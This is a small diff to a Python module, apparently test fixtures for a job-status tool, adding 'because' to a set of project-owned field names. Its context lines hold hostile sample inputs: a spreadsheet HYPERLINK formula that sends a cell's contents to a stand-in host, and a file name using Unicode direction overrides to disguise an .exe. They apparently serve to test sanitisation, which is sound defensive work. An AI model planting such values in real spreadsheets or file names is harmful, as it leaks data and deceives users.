@@ -27,7 +27,9 @@ FORMULA = '=HYPERLINK("http://e.example/?"&A1,"x")'
 TURNED = "\u2067\u202b\u200f\u05d0\u05d1 \u202egnp.exe"
 
 # The values that only this project writes: words of fixed sets, and times.
-_OURS = frozenset(("schema_version", "status", "blocked_for", "blocks", "would_block", "state", "kind", "per"))
+_OURS = frozenset(
+    ("schema_version", "status", "blocked_for", "blocks", "would_block", "state", "kind", "per", "because")
+)
 _MOMENT = re.compile(r"\d{4}-\d\d-\d\dT")
 _ENDS = ("succeeded", "succeeded", "succeeded", "dry-run", "refused", "failed", "killed", "running")
 _ERROR = {
